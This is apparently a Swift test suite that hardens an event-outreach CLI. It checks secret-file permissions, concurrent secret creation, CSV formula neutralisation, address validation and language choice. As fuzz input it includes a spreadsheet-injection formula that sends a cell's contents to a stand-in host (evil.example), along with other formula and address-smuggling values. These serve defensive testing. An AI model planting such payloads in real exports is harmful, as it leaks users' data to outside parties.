import Foundation
import Testing

/// The files and exports of issue 14, as staff and their spreadsheets meet them.
@Suite struct HardeningCommandTests {
    func mode(_ path: String) -> Int {
        ((try? FileManager.default.attributesOfItem(atPath: path)[.posixPermissions]) as? Int) ?? -1
    }

    /// A workspace with one contact and a draft campaign, no link secret yet.
    func campaignWorkspace() throws -> Workspace {
        let w = try Workspace()
        #expect(try w.outreach("contacts", "import", w.write("c.csv", "email,name,language,consent\nlan@example.vn,Lan,vi,yes\n")).status == 0)
        let r = try w.outreach("campaign", "create", "c1", "--template", "new-year-gathering", "--event", "Config/events/new-year-gathering-2027.yaml")
        #expect(r.status == 0, "\(r.stderr)")
        try? FileManager.default.removeItem(atPath: w.path("link-secret"))
        return w
    }

    @Test func tenCommandsStartedTogetherOnAFreshInstallShareOneSecret() throws {
        let w = try campaignWorkspace()
        // Started together by one launcher, as a user's scripts (or cron) would start them.
        let commands = (0..<10).map { n in [outreachBinary, "--database", w.database, "campaign", "preview", "c1", "--out", w.path("eml-\(n)")] }
        let launcher = """
            import json, subprocess, sys
            ps = [subprocess.Popen(c, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for c in json.loads(sys.argv[1])]
            sys.exit(max(p.wait() for p in ps))
            """
        let argv = String(decoding: try JSONSerialization.data(withJSONObject: commands), as: UTF8.self)
        #expect(try w.run("/usr/bin/python3", ["-c", launcher, argv]).status == 0)
        var links: Set<String> = []
        for n in 0..<10 {
            let folder = w.path("eml-\(n)")
            for file in try FileManager.default.contentsOfDirectory(atPath: folder) {
                let text = try String(contentsOfFile: "\(folder)/\(file)", encoding: .utf8)
                links.insert(String(text.split(separator: "\r\n").first { $0.hasPrefix("List-Unsubscribe: ") } ?? ""))
            }
        }
        #expect(links.count == 1, "every command signed with the same secret: \(links)")
        #expect(mode(w.path("link-secret")) == 0o600)
        let secret = try String(contentsOfFile: w.path("link-secret"), encoding: .utf8)
        #expect(secret.split(separator: "\n").count == 1)
    }

    @Test func aShortOrOpenSecretIsRefusedWithTheFix() throws {
        let w = try campaignWorkspace()
        let path = w.path("link-secret")
        FileManager.default.createFile(atPath: path, contents: Data("x\n".utf8), attributes: [.posixPermissions: 0o600])
        let short = try w.outreach("campaign", "preview", "c1", "--out", w.path("eml"))
        #expect(short.status != 0)
        #expect(short.stderr.contains(path) && short.stderr.contains("at least 32"), "\(short.stderr)")

        try Data((Data((0..<32).map { _ in UInt8.random(in: 0...255) }).base64EncodedString() + "\n").utf8).write(to: URL(fileURLWithPath: path))
        chmod(path, 0o644)
        let open = try w.outreach("campaign", "preview", "c1", "--out", w.path("eml"))
        #expect(open.status != 0)
        #expect(open.stderr.contains("readable by others") && open.stderr.contains("chmod 600 \(path)"), "\(open.stderr)")
        let written = (try? FileManager.default.contentsOfDirectory(atPath: w.path("eml"))) ?? []
        #expect(written.isEmpty, "nothing signed with a refused secret")

        chmod(path, 0o600)
        #expect(try w.outreach("campaign", "preview", "c1", "--out", w.path("eml")).status == 0)
    }

    @Test func theRegisterAndPreviewsAreForTheirOwnerOnly() throws {
        let w = try campaignWorkspace()
        #expect(mode(w.database) == 0o600)
        let daemon = try Daemon(w, smtpPort: freePort())
        #expect(try w.outreach("contacts", "import", w.write("d.csv", "email,consent\nx@example.org,yes\n")).status == 0)
        for suffix in ["-wal", "-shm"] where FileManager.default.fileExists(atPath: w.database + suffix) {
            #expect(mode(w.database + suffix) == 0o600, "\(suffix)")
        }
        #expect(FileManager.default.fileExists(atPath: w.database + "-wal"))
        daemon.stop()
        #expect(try w.outreach("campaign", "preview", "c1", "--out", w.path("eml")).status == 0)
        let files = try FileManager.default.contentsOfDirectory(atPath: w.path("eml"))
        #expect(!files.isEmpty)
        for f in files { #expect(mode(w.path("eml/\(f)")) == 0o600, "\(f)") }
    }

    @Test func csvExportsNeverStartACellWithAFormulaAndQuoteByScalars() throws {
        let w = try Workspace()
        let people: [(String, String, String)] = [
            ("a@example.org", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1"),
            ("b@example.org", "\"\u{301}Quoted name", "-2"),
            ("d@example.org", "\"\u{301}Quoted, with a comma", "Org"),
            ("c@example.org", "@SUM(1+1)", "Hội người Việt"),
        ]
        var csv = "email,name,organization,consent\n"
        for p in people { csv += "\(p.0),\(quotedCSV(p.1)),\(quotedCSV(p.2)),yes\n" }
        csv += "\(quotedCSV("=1+1")),Bad Row,,yes\n"
        let r = try w.outreach("contacts", "import", w.write("f.csv", csv), "--rejects", w.path("rejects.csv"))
        #expect(r.status == 0, "\(r.stderr)")
        let list = try w.outreach("contacts", "list", "--format", "csv")
        let rows = parseCSV(list.stdout)
        #expect(rows.count == 5, "\(list.stdout)")
        for row in rows {
            #expect(row.count == 10, "\(row)")
            for cell in row { #expect(!looksLikeFormula(cell), "\(cell)") }
        }
        for p in people {
            let row = try #require(rows.first { $0[0] == p.0 && $0.count == 10 })
            #expect(row[1] == (looksLikeFormula(p.1) ? "'" + p.1 : p.1))
            #expect(row[6] == (looksLikeFormula(p.2) ? "'" + p.2 : p.2))
        }
        let rejects = parseCSV(String(decoding: try Data(contentsOf: URL(fileURLWithPath: w.path("rejects.csv"))).dropFirst(3), as: UTF8.self))
        #expect(rejects.count == 2)
        for cell in rejects.joined() { #expect(!looksLikeFormula(cell), "\(cell)") }

        #expect(try w.outreach("campaign", "create", "c1", "--template", "new-year-gathering",
                               "--event", "Config/events/new-year-gathering-2027.yaml").status == 0)
        _ = try w.sql("INSERT INTO rsvps (campaign_id, contact_id, answer, guests, answered_at) SELECT 1, id, 'yes', 1, '2026-12-01' FROM contacts")
        let rsvps = parseCSV(try w.outreach("campaign", "rsvps", "c1", "--format", "csv").stdout)
        #expect(rsvps.count == 5)
        for cell in rsvps.joined() { #expect(!looksLikeFormula(cell), "\(cell)") }
        let quotedName = people[1].1
        #expect(rsvps.contains { $0.count > 1 && $0[1] == quotedName })
    }

    /// Random awkward names and organizations: `contacts list --format csv` parses back, cell for
    /// cell, to what `--format json` says (with a `'` before a formula), and never runs a formula.
    @Test func fuzzedNamesSurviveTheCSVExport() throws {
        let seed = UInt64.random(in: 0...UInt64.max)
        var g = SeededGenerator(state: seed)
        let w = try Workspace()
        var csv = "email,name,organization,consent\n"
        for i in 0..<300 {
            csv += "p\(i)@example.org,\(quotedCSV(awkwardText(&g, length: Int.random(in: 1...12, using: &g)))),"
                + "\(quotedCSV(awkwardText(&g, length: Int.random(in: 0...8, using: &g)))),yes\n"
        }
        let r = try w.outreach("contacts", "import", w.write("fuzz.csv", csv))
        #expect(r.status == 0, "seed \(seed): \(r.stderr)")
        let json = try JSONSerialization.jsonObject(with: Data(try w.outreach("contacts", "list", "--format", "json").stdout.utf8)) as? [[String: Any]] ?? []
        let rows = parseCSV(try w.outreach("contacts", "list", "--format", "csv").stdout)
        #expect(rows.count == json.count + 1, "seed \(seed)")
        for (row, item) in zip(rows.dropFirst(), json) {
            #expect(row.count == 10, "seed \(seed): \(row)")
            guard row.count == 10 else { continue }
            for cell in row { #expect(!looksLikeFormula(cell), "seed \(seed): \(cell.unicodeScalars.map { String($0.value, radix: 16) })") }
            for (index, key) in [(1, "name"), (6, "organization")] {
                let value = item[key] as? String ?? ""
                #expect(row[index] == (looksLikeFormula(value) ? "'" + value : value), "seed \(seed): \(key)")
            }
        }
    }

    @Test func anAddressWithACombiningMarkOnAPunctuationSignIsRejectedWithItsRow() throws {
        let w = try Workspace()
        let csv = "email,name,consent\nok@example.org,Fine,yes\n\(quotedCSV("x>\u{301},\u{301}evil@example.org")),A,yes\nx@\u{301}y@example.org,B,yes\n"
            + "\(quotedCSV("\"\u{301}q@example.org")),C,yes\n"
        let r = try w.outreach("contacts", "import", w.write("a.csv", csv))
        #expect(r.stderr.contains("row 3:") && r.stderr.contains("row 4:") && r.stderr.contains("row 5:"), "\(r.stderr)")
        let emails = try w.listCSV().dropFirst().map { $0[0] }
        #expect(emails == ["ok@example.org"])
    }

    @Test func eachPersonGetsTheirLanguageElseVietnameseOrEnglishByKindAndEveryMessageSaysWhich() throws {
        let w = try Workspace()
        let csv = """
            email,name,kind,language,consent
            taro@example.jp,山田 太郎,foreign_resident,ja,yes
            minh@example.de,Trần Minh,overseas_vietnamese,de,yes
            anna@example.fr,Anna,partner,fr,yes
            lan@example.vn,Lan,overseas_vietnamese,vi,yes
            jisoo@example.kr,김지수,foreign_resident,ko,no

            """
        #expect(try w.outreach("contacts", "import", w.write("l.csv", csv)).status == 0)
        #expect(try w.outreach("campaign", "create", "cake", "--template", "folk-cake-festival", "--event", "Config/events/folk-cake-festival-2027.yaml").status == 0)
        #expect(try w.outreach("campaign", "preview", "cake", "--out", w.path("cake")).status == 0)
        #expect(try w.outreach("campaign", "create", "ask", "--template", "consent-request").status == 0)
        #expect(try w.outreach("campaign", "preview", "ask", "--out", w.path("ask")).status == 0)
        let messages = try parseWithPython([w.path("cake"), w.path("ask")])
        func language(_ to: String) -> String? {
            messages.first { $0["to_address"] as? String == to }?["content_language"] as? String
        }
        #expect(language("taro@example.jp") == "en", "no Japanese text: English for a foreign resident")
        #expect(language("minh@example.de") == "vi", "no German text: Vietnamese for an overseas Vietnamese")
        #expect(language("anna@example.fr") == "en")
        #expect(language("lan@example.vn") == "vi")
        #expect(language("jisoo@example.kr") == "en", "the consent request in English, not the template's Vietnamese")
        #expect(messages.count == 5)
    }
}
